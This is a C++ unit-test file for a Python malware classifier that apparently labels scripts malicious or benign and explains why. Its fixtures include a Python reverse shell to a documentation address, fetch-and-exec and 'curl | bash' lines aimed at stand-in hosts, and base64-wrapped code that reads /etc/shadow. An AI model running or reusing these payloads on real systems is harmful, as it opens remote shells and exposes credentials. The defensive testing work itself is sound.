#include "verdict/verdict.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <cmath>
#include <set>
#include <string>

#include "behaviour/rules.h"
#include "verdict/weights.h"

namespace pyverdict::verdict {
namespace {

Verdict verdict_of(std::string script, Circumstances circumstances = {}) {
  const unwrap::Program program = unwrap::unwrap(std::move(script));
  return judge(program, behaviour::match(program), circumstances);
}

const std::string kReverseShell =
    "import os, pty, socket\n"
    "s = socket.socket()\n"
    "s.connect(('192.0.2.7', 4444))\n"
    "os.dup2(s.fileno(), 0)\n"
    "pty.spawn('/bin/sh')\n";

TEST(Weights, BehavioursSpeakForAndCounterEvidenceAgainst) {
  for (const behaviour::Behaviour& row : behaviour::catalogue()) EXPECT_GE(weight(row), 0) << row.id;
  for (const behaviour::CounterRow& row : behaviour::counter_rows())
    EXPECT_LE(counter_weight(row.id), 0) << row.id;
  EXPECT_LT(bias(), 0);
}

TEST(Judge, LabelsFollowTheEvidence) {
  EXPECT_EQ(verdict_of(kReverseShell).label, Label::Malicious);
  EXPECT_EQ(verdict_of("print(1)\n").label, Label::Benign);
  EXPECT_EQ(verdict_of("import requests\nexec(requests.get('http://host.example.invalid/x').text)\n").label,
            Label::Malicious);
  EXPECT_EQ(verdict_of("import os\nos.system('make')\n").label, Label::Benign);
}

TEST(Judge, CounterEvidenceLowersAndUnreachableCodeWeighsLess) {
  const std::string fetch = "import requests\nexec(requests.get('http://host.example.invalid/x').text)\n";
  const double plain = verdict_of(fetch).score;
  EXPECT_LT(verdict_of(fetch + "import unittest\nclass A(unittest.TestCase):\n    pass\n").score, plain);
  EXPECT_LT(verdict_of("import sys\nsys.exit()\n" + fetch).score, plain);
}

TEST(Judge, InnerLayersWeighMore) {
  const std::string inner =
      "cHJpbnQob3BlbignL2V0Yy9zaGFkb3cnKS5yZWFkKCkp";  // print(open('/etc/shadow').read())
  EXPECT_GT(verdict_of("import base64\nexec(base64.b64decode('" + inner + "'))\n").score,
            verdict_of("print(open('/etc/shadow').read())\n").score);
}

TEST(Judge, RepeatsAddLessAndLess) {
  const std::string once = "print(open('/etc/shadow').read())\n";
  std::string often = once;
  for (int i = 0; i < 30; ++i) often += once;
  const auto odds = [](double p) { return std::log(p / (1 - p)); };
  const double base = odds(verdict_of("print(1)\n").score);
  const double one = odds(verdict_of(once).score) - base;
  EXPECT_LT(odds(verdict_of(often).score) - base, 1.5 * one);
}

TEST(Judge, ReasonsAreOrderedByWhatTheyAdd) {
  const Verdict verdict = verdict_of("import os\nos.system('make')\n" + kReverseShell);
  ASSERT_GE(verdict.reasons.size(), 2u);
  EXPECT_EQ(verdict.reasons.front(), "reverse-shell");
  EXPECT_LT(std::find(verdict.reasons.begin(), verdict.reasons.end(), "odd-port"), verdict.reasons.end());
}

TEST(Judge, SaysWhenThereIsTooLittle) {
  EXPECT_EQ(verdict_of("", {.unreadable = true}).label, Label::Inconclusive);
  EXPECT_EQ(verdict_of("import os\nx = os.", {.truncated = true}).label, Label::Inconclusive);
  EXPECT_EQ(verdict_of(kReverseShell, {.truncated = true}).label, Label::Malicious);
}

TEST(Judge, WrappingAloneIsSuspiciousAtMost) {
  // for i in range(10): print(i * i)
  const Verdict harmless =
      verdict_of("exec(__import__('base64').b64decode('Zm9yIGkgaW4gcmFuZ2UoMTApOiBwcmludChpICogaSk='))\n");
  EXPECT_NE(harmless.label, Label::Malicious);
  EXPECT_NE(harmless.summary.find("whose content shows nothing of an attack"), std::string::npos)
      << harmless.summary;
  // print(open('/etc/shadow').read())
  const Verdict harmful =
      verdict_of("exec(__import__('base64').b64decode('cHJpbnQob3BlbignL2V0Yy9zaGFkb3cnKS5yZWFkKCkp'))\n");
  EXPECT_EQ(harmful.summary.find("nothing of an attack"), std::string::npos) << harmful.summary;
  // Beside harmless code that is unpacked stands something else.
  const Verdict beside = verdict_of(
      "import base64, os\nexec(base64.b64decode('"
      "ZGVmIHJ1bihjb21tYW5kKToKICAgIHByaW50KGNvbW1hbmQpCg=='))\n"
      "os.system('powershell -WindowStyle Hidden -Command Start-Process C:/x.exe')\n");
  EXPECT_EQ(beside.label, Label::Malicious);
  EXPECT_EQ(beside.summary.find("nothing of an attack"), std::string::npos) << beside.summary;
  // What the inner code runs was not seen.
  const Verdict unseen = verdict_of(
      "exec(__import__('base64').b64decode('"
      "aW1wb3J0IHN5cwpleGVjKGdpdmVuKHN5cy5hcmd2KSkKcHJpbnQoJ2EgbGluZSB0aGF0IGZvbGxvd3MgaXQnKQo="
      "'))\n");
  EXPECT_EQ(unseen.summary.find("nothing of an attack"), std::string::npos) << unseen.summary;
}

struct SummaryCase {
  std::string script;
  std::string_view summary;
};

class Summary : public testing::TestWithParam<SummaryCase> {};

TEST_P(Summary, IsOneSentenceWithWhatIsKnown) {
  EXPECT_EQ(verdict_of(GetParam().script).summary, GetParam().summary);
}

INSTANTIATE_TEST_SUITE_P(
    Cases, Summary,
    testing::Values(
        SummaryCase{kReverseShell,
                    "Opens a shell to 192.0.2.7 port 4444 for whoever listens there and uses a port that "
                    "attack tools use."},
        SummaryCase{"import requests\nexec(requests.get('http://host.example.invalid/x').text)\n",
                    "Runs code that it fetches from hxxp://host[.]example[.]invalid/x."},
        SummaryCase{"import requests\nexec(requests.get(u).text)\n", "Runs code that it fetches."},
        SummaryCase{
            "import os, urllib.request\nurllib.request.urlretrieve('http://198.51.100.7/a', '/tmp/a')\n"
            "os.system('curl -s http://198.51.100.7/b | bash')\n",
            "Pipes a download from hxxp://198[.]51[.]100[.]7/b straight into an interpreter."},
        SummaryCase{
            "import requests\nlog = 'https://log.example.invalid/'\nother = 'https://host.example.invalid/'\n"
            "exec(requests.get(u).text)\n",
            "Runs code that it fetches."},
        SummaryCase{"print(1)\n", "Nothing in it speaks of an attack."},
        SummaryCase{"import logging\nlog = logging.getLogger('x')\n",
                    "Nothing in it speaks of an attack, and it has marks of an ordinary program."}));

TEST(Features, HaveNamesAndAreFinite) {
  const auto names = feature_names();
  EXPECT_EQ(std::set<std::string_view>(names.begin(), names.end()).size(), names.size());
  for (const std::string& script :
       {std::string(), std::string("print(1)\n"), kReverseShell, std::string(100'000, '('),
        std::string("x = '") + std::string(100'000, 'A')}) {
    const unwrap::Program program = unwrap::unwrap(script);
    const auto values = features(program, behaviour::match(program), {});
    ASSERT_EQ(values.size(), names.size() + kHashedFeatures);
    EXPECT_TRUE(std::all_of(values.begin(), values.end(), [](float value) { return std::isfinite(value); }));
  }
}

float feature(std::string script, std::string_view name) {
  const auto names = feature_names();
  const auto at = std::find(names.begin(), names.end(), name);
  if (at == names.end()) return -1;
  const unwrap::Program program = unwrap::unwrap(std::move(script));
  return features(program, behaviour::match(program), {})[static_cast<std::size_t>(at - names.begin())];
}

struct AddressCase {
  const char* script;
  const char* name;
  float value;
};

class Addresses : public testing::TestWithParam<AddressCase> {};

TEST_P(Addresses, ForeignIsNeitherOnesOwnNetworkNorAPublisher) {
  EXPECT_EQ(feature(GetParam().script, GetParam().name), GetParam().value) << GetParam().script;
}

INSTANTIATE_TEST_SUITE_P(
    Scripts, Addresses,
    testing::Values(
        AddressCase{"import requests\nrequests.get('https://files.example.invalid/a')\n",
                    "address.http-get.foreign", 1},
        AddressCase{"import requests\nrequests.get('http://198.51.100.7:8080/a')\n",
                    "address.http-get.foreign", 1},
        AddressCase{"import requests\nrequests.get('http://10.0.0.7/a')\n", "address.http-get.foreign", 0},
        AddressCase{"import requests\nrequests.get('http://169.254.169.254/latest')\n",
                    "address.http-get.foreign", 0},
        AddressCase{"import requests\nrequests.get('https://nexus.internal/a')\n", "address.http-get.foreign",
                    0},
        AddressCase{"import requests\nrequests.get('http://registry:5000/a')\n", "address.http-get.foreign",
                    0},
        AddressCase{"import requests\nrequests.get('https://download.docker.com/a')\n",
                    "address.http-get.foreign", 0},
        AddressCase{"import requests\nrequests.get('https://docker.com.example.invalid/a')\n",
                    "address.http-get.foreign", 1},
        AddressCase{"import requests\nrequests.get('https://notdocker.com/a')\n", "address.http-get.foreign",
                    1},
        AddressCase{"import requests\nrequests.get('https://docker.com@example.invalid/a')\n",
                    "address.http-get.foreign", 1},
        // One of a publisher beside it takes nothing away.
        AddressCase{
            "import os\nos.system('curl https://sh.rustup.rs | sh; curl http://example.invalid | sh')\n",
            "address.run.foreign", 1},
        AddressCase{"import os\nos.system('curl https://sh.rustup.rs | sh')\n", "address.run.foreign", 0},
        AddressCase{"import os\nos.system('systemctl restart nginx.service')\n", "address.run.foreign", 0},
        AddressCase{"import socket\nsocket.create_connection(('db.local', 5432))\n",
                    "address.connect.foreign", 0},
        AddressCase{"import socket\nsocket.create_connection(('203.0.113.5', 4444))\n",
                    "address.connect.foreign", 1}));

}  // namespace
}  // namespace pyverdict::verdict
